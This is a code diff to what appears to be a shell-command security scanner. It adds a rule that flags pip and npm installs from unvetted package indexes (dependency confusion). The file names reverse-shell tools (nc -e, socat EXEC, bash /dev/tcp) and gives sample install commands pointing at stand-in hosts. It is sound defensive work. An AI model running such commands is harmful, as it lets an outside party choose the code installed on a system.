@@ -4,7 +4,7 @@
 // and "Bind shell" functions; nc(1) -e, socat(1) EXEC, bash(1) /dev/tcp.
 import type { Action } from "../model.js";
 import type { Invocation } from "../shell-command.js";
-import { hostOf, isExternalHost, untrustedOrigin } from "../paths.js";
+import { hostOf, internalHost, isExternalHost, untrustedOrigin } from "../paths.js";
 import { following, previous, shown, writtenPaths, type CommandRule, type RuleHit } from "./rule.js";
 
 const TACTIC = "Execution (TA0002)";
@@ -323,6 +323,46 @@ function oneSlip(a: string, b: string): boolean {
   return long.slice(i + 1) === short.slice(i);
 }
 
+/** The public registries, well-known vendors' indexes, hosted private registries, and a company's own registry server by its name (nexus., artifactory., devpi.…). */
+const KNOWN_INDEX = /(?:^|\.)(?:pypi\.org|pythonhosted\.org|npmjs\.org|npmjs\.com|yarnpkg\.com|download\.pytorch\.org|pypi\.nvidia\.com|rubygems\.org|crates\.io|pkg\.go\.dev|proxy\.golang\.org|nuget\.org|repo1\.maven\.org|repo\.maven\.apache\.org|anaconda\.org|conda\.anaconda\.org|github\.com|pkg\.github\.com|npm\.pkg\.github\.com|jfrog\.io|pkgs\.dev\.azure\.com|pkgs\.visualstudio\.com|pkg\.dev|amazonaws\.com|gitlab\.com|cloudsmith\.io)$|^(?:nexus|artifactory|devpi|verdaccio|proget|pulp|packages|repo|repository)[\w-]*\./i;
+/** Options that point an installer at another package index (pip's -i/--index-url/--extra-index-url/-f/--find-links, npm's --registry, uv's --index). */
+const INDEX_OPTION = /^(?:-i|--index-url|--extra-index-url|-f|--find-links|--registry|--index|--default-index|--trusted-host)(?:=(.*))?$/;
+
+/**
+ * Packages installed from an index on a host no one vouches for (pip install --extra-index-url
+ * https://pkgs.example-tools.io/simple …): whoever runs it chooses the code that is installed, and
+ * with an extra index a name on it wins over the public one (dependency confusion, T1195.002). The
+ * public registries, known vendors' indexes, loopback and internal hosts are left alone.
+ */
+const outsideIndex: CommandRule = {
+  id: "execution.outside-package-index",
+  tactic: TACTIC,
+  technique: "T1195.002",
+  match(inv) {
+    const pip = /^(?:pip[\d.]*|uv|pipx|poetry)$/.test(inv.name) || (/^python[\d.]*$/.test(inv.name) && inv.args[0] === "-m" && inv.args[1] === "pip");
+    const npm = /^(?:npm|pnpm|yarn|bun|npx)$/.test(inv.name);
+    if (!pip && !npm) return undefined;
+    const a = inv.args;
+    if (!a.some((w) => /^(?:install|add|i|sync|download)$/.test(w))) return undefined;
+    for (let i = 0; i < a.length; i++) {
+      const m = INDEX_OPTION.exec(a[i]!);
+      if (m === null || a[i] === "--trusted-host") continue;
+      const url = m[1] ?? a[i + 1] ?? "";
+      const host = hostOf(url) ?? "";
+      if (host === "" || KNOWN_INDEX.test(host) || !isExternalHost(host) || internalHost(host)) continue;
+      return {
+        action: inv.privileged ? { capability: "escalate", target: { name: url, external: true }, reversibility: "recoverable", scope: "system" } : { capability: "execute", target: { name: url, external: true }, reversibility: "recoverable", scope: "account" },
+        reason: `installs packages from an index at ${shown(host)}${inv.privileged ? " as root" : ""}: whoever runs it chooses the code installed, and its names win over the public ones (T1195.002)`,
+      };
+    }
+    return undefined;
+  },
+  examples: {
+    match: [`pip install --extra-index-url https://pkgs.example-tools.io/simple historian-export`, `sudo pip3 install -i https://pypi.example-mirror.net/simple requests`, `npm install --registry https://registry.example-npm.net/ left-pad`, `python3 -m pip install --index-url=http://203.0.113.9:8080/simple pkg`],
+    noMatch: [`pip install --extra-index-url https://download.pytorch.org/whl/cu121 torch`, `pip install -i https://pypi.org/simple requests`, `pip install --index-url https://nexus.corp.internal/repository/pypi/simple pkg`, `npm install --registry http://localhost:4873 my-pkg`, `pip install -r requirements.txt`, `pip download --find-links ./wheels pkg`, `pip install --extra-index-url https://artifactory.acme-corp.com/api/pypi/pypi/simple acme-utils`, `npm install --registry https://acme.jfrog.io/artifactory/api/npm/npm/ @acme/ui`],
+  },
+};
+
 const typosquat: CommandRule = {
   id: "execution.typosquat-install",
   tactic: TACTIC,
@@ -418,4 +458,4 @@ const fleetUpdate: CommandRule = {
   },
 };
 
-export const executionRules: readonly CommandRule[] = [reverseShell, reverseTunnel, downloadRun, tokenToFetchedPackage, proxyExecution, typosquat, remoteCommand, fleetUpdate];
+export const executionRules: readonly CommandRule[] = [reverseShell, reverseTunnel, downloadRun, tokenToFetchedPackage, proxyExecution, typosquat, outsideIndex, remoteCommand, fleetUpdate];
